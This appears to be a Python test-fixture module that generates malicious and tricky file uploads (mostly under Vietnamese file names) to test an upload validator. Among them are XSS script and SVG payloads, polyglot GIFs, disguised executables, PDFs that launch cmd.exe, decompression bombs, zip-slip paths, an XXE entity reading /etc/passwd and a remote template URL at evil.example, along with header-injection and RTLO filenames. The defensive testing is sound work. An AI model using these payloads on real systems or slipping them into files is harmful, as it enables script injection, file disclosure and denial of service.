"""Uploads that lie, burst or bite, each as name and bytes; and good ones under difficult names."""

import io
import struct
import unicodedata
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

from PIL import Image

SCRIPT = b"<script>alert(document.domain)</script>"
HTML = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
PROGRAM = b"MZ\x90\x00" + b"\x00" * 56 + b"\x80\x00\x00\x00" + b"This program cannot be run in DOS mode." * 4
LOCKED_OFFICE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 2000

_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
_SLIDES = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
_MAIN_WITH_MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
_DOCUMENT = "<w:document><w:body><w:p><w:r><w:t>{}</w:t></w:r></w:p></w:body></w:document>"


def picture(kind: str = "PNG", **options: Any) -> bytes:
    out = io.BytesIO()
    Image.effect_noise((32, 24), 80).convert("RGB").save(out, kind, **options)
    return out.getvalue()


def office(main: str = _MAIN, text: str = "Báo cáo chín tháng", **members: bytes | str) -> bytes:
    """A document of Word with further members; `__` in a name stands for a slash."""
    types = f'<Types><Override PartName="/word/document.xml" ContentType="{main}"/></Types>'
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", types)
        package.writestr("word/document.xml", _DOCUMENT.format(text))
        for name, content in members.items():
            package.writestr(name.replace("__", "/"), content)
    return out.getvalue()


def archive(*members: tuple[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in members:
            package.writestr(name, content)
    return out.getvalue()


def pdf(extra: bytes = b"", *, head: bytes = b"", tail: bytes = b"") -> bytes:
    body = b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R " + extra + b" >>\nendobj\n"
    return head + b"%PDF-1.7\n" + body + b"trailer\n<< /Root 1 0 R >>\n%%EOF\n" + tail


def packed_pdf(content: bytes) -> bytes:
    packed = zlib.compress(content)
    stream = b"3 0 obj\n<< /Type /ObjStm /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed)
    return b"%PDF-1.7\n" + stream + packed + b"\nendstream\nendobj\ntrailer\n<< >>\n%%EOF\n"


def picture_of_a_billion_points() -> bytes:
    """A few bytes of PNG that would take four gigabytes once opened."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return (
            struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))
        )

    size = struct.pack(">IIBBBBB", 32_000, 32_000, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", size) + chunk(b"IDAT", zlib.compress(b"")) + chunk(b"IEND", b"")
    )


def locked_archive() -> bytes:
    content = bytearray(office())
    # The flag of a password, in the first local header and in its entry of the directory.
    content[6] |= 1
    content[content.rindex(b"PK\x01\x02", 0, content.index(b"PK\x01\x02") + 4) + 8] |= 1
    return bytes(content)


_REMOTE = (
    '<Relationships><Relationship Id="rId1" TargetMode="External" Target="https://evil.example/x.dotm" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
)
_ENTITY = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'

#: Whatever their name says, none of these may stay in the house.
HOSTILE: dict[str, tuple[str, Callable[[], bytes]]] = {
    "SVG": ("so-do.svg", lambda: SVG),
    "SVG as a picture": ("so-do.png", lambda: SVG),
    "SVG as a document": ("so-do.pdf", lambda: SVG),
    "page": ("thong-bao.html", lambda: HTML),
    "page as a picture": ("anh.png", lambda: HTML),
    "page as a photograph": ("anh.jpg", lambda: HTML),
    "page as a document": ("thong-bao.pdf", lambda: HTML),
    "page as Word": ("thong-bao.docx", lambda: HTML),
    "program": ("cai-dat.exe", lambda: PROGRAM),
    "program as a picture": ("anh.png", lambda: PROGRAM),
    "program as a document": ("bao-cao.pdf", lambda: PROGRAM),
    "program as Word": ("bao-cao.docx", lambda: PROGRAM),
    "program with two endings": ("bao-cao.pdf.exe", lambda: PROGRAM),
    "program in front of Word": ("bao-cao.docx", lambda: PROGRAM + office()),
    "shortcut": ("bao-cao.lnk", lambda: b"L\x00\x00\x00\x01\x14\x02\x00"),
    "script of Windows": ("bao-cao.hta", lambda: HTML),
    "no ending": ("baocao", pdf),
    "hidden file": (".htaccess", lambda: b"AddType text/html .png"),
    "GIF with a script": ("anh.gif", lambda: picture("GIF") + SCRIPT),
    "GIF with a script as a photograph": ("anh.jpg", lambda: picture("GIF") + SCRIPT),
    "GIF that begins a script": ("anh.png", lambda: b"GIF89a/*" + picture("GIF")[8:] + b"*/=1;alert(1)"),
    "photograph as PNG": ("anh.png", lambda: picture("JPEG")),
    "broken photograph": ("anh.jpg", lambda: picture("JPEG")[:-200]),
    "broken picture": ("anh.png", lambda: picture()[:-600]),
    "head of a picture": ("anh.png", lambda: picture()[:60]),
    "picture of a billion points": ("anh.png", picture_of_a_billion_points),
    "empty picture": ("anh.png", lambda: b""),
    "empty document": ("bao-cao.pdf", lambda: b""),
    "page before a PDF": ("bao-cao.pdf", lambda: pdf(head=HTML)),
    "page behind a PDF": ("bao-cao.pdf", lambda: pdf(tail=HTML)),
    "archive behind a PDF": ("bao-cao.pdf", lambda: pdf() + office() + b"%%EOF\n"),
    "PDF cut off": ("bao-cao.pdf", lambda: pdf()[:-20]),
    "PDF with a script": ("bao-cao.pdf", lambda: pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")),
    "PDF with a script in disguise": ("bao-cao.pdf", lambda: pdf(b"/AA << /S /J#61vaScript /J#53 (x) >>")),
    "PDF that starts a program": ("bao-cao.pdf", lambda: pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>")),
    "PDF with a file inside": ("bao-cao.pdf", lambda: pdf(b"/Names << /EmbeddedFiles 5 0 R >>")),
    "PDF with a form that computes": ("bao-cao.pdf", lambda: pdf(b"/AcroForm << /XFA 7 0 R >>")),
    "PDF with a password": ("bao-cao.pdf", lambda: pdf(b"/Encrypt 9 0 R")),
    "PDF with packed scripts": ("bao-cao.pdf", lambda: packed_pdf(b"<< /S /JavaScript /JS (x) >>")),
    "PDF that bursts": ("bao-cao.pdf", lambda: packed_pdf(b" " * 21_000_000)),
    "macros": ("bao-cao.docm", lambda: office(_MAIN_WITH_MACROS, word__vbaProject_bin=b"\x00")),
    "macros under another name": ("bao-cao.docx", lambda: office(_MAIN_WITH_MACROS)),
    "macros in a plain document": ("bao-cao.docx", lambda: office(**{"word__vbaProject.bin": b"\xd0\xcf"})),
    "active control": ("bao-cao.docx", lambda: office(**{"word__activeX__activeX1.xml": "<x/>"})),
    "Word as Excel": ("so-lieu.xlsx", office),
    "Word with a password": ("bao-cao.docx", lambda: LOCKED_OFFICE),
    "Word in the old form": ("bao-cao.doc", lambda: LOCKED_OFFICE),
    "archive": ("tai-lieu.zip", lambda: archive(("a.txt", b"a"))),
    "archive as Word": ("tai-lieu.docx", lambda: archive(("a.txt", b"a"))),
    "archive with a password": ("bao-cao.docx", locked_archive),
    "archive that bursts": ("bao-cao.docx", lambda: office(**{"word__media__x.bin": b"\x00" * 30_000_000})),
    "archive of too many": (
        "bao-cao.docx",
        lambda: office(**{f"word__media__{number}.xml": "<x/>" for number in range(2100)}),
    ),
    "archive in archives": (
        "bao-cao.docx",
        lambda: office(**{"word__embeddings__a.docx": office(**{"b.docx": office(**{"c.docx": office()})})}),
    ),
    "archive with a way out": ("bao-cao.docx", lambda: office(**{"..__..__etc__passwd": "x"})),
    "archive with a program": ("bao-cao.docx", lambda: office(**{"word__media__a.exe": PROGRAM})),
    "archive cut off": ("bao-cao.docx", lambda: office()[:-30]),
    "entity from the disk": ("bao-cao.docx", lambda: office(**{"word__settings.xml": _ENTITY})),
    "entity in wide letters": (
        "bao-cao.docx",
        lambda: office(**{"word__settings.xml": _ENTITY.encode("utf-16")}),
    ),
    "template from elsewhere": ("bao-cao.docx", lambda: office(**{"word__x.rels": _REMOTE})),
    "mark of secrecy in the name": ("Báo cáo (TỐI MẬT).pdf", pdf),
    "mark of secrecy in the text": ("bao-cao.docx", lambda: office(text="MẬT")),
}  # fmt: skip

_ACCENTED = "Báo cáo kết quả 9 tháng, phương hướng quý IV"

#: Name as sent, content, and the name under which people find it again.
GOOD: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "Word": ("bao-cao.docx", office, "bao-cao.docx"),
    "Excel": ("so-lieu.xlsx", lambda: office(_SHEET), "so-lieu.xlsx"),
    "PowerPoint": ("trinh-chieu.pptx", lambda: office(_SLIDES), "trinh-chieu.pptx"),
    "PDF": ("bao-cao.pdf", pdf, "bao-cao.pdf"),
    "photograph": ("anh.jpeg", lambda: picture("JPEG"), "anh.jpeg"),
    "picture": ("anh.PNG", picture, "anh.PNG"),
    "WebP": ("anh.webp", lambda: picture("WEBP"), "anh.webp"),
    "letters in pieces": (unicodedata.normalize("NFD", f"{_ACCENTED}.pdf"), pdf, f"{_ACCENTED}.pdf"),
    "way out": ("../../../etc/cron.d/bao-cao.pdf", pdf, "bao-cao.pdf"),
    "way out of Windows": ("C:\\Users\\vp\\bao-cao.pdf", pdf, "bao-cao.pdf"),
    "second header": ("bao&#13;&#10;Set-Cookie: a=b<b>.pdf", pdf, "baoSet-Cookie- a=b-b-.pdf"),
    "turned round": ("bao-cao-\u202efdp.exe.pdf", pdf, "bao-cao-fdp.exe.pdf"),
    "endless name": ("a" * 240 + ".pdf", pdf, "a" * 146 + ".pdf"),
    "device of Windows": ("CON.pdf", pdf, "_CON.pdf"),
    "confidentiality in a title": ("Bảo vệ bí mật nhà nước.pdf", pdf, "Bảo vệ bí mật nhà nước.pdf"),
}  # fmt: skip
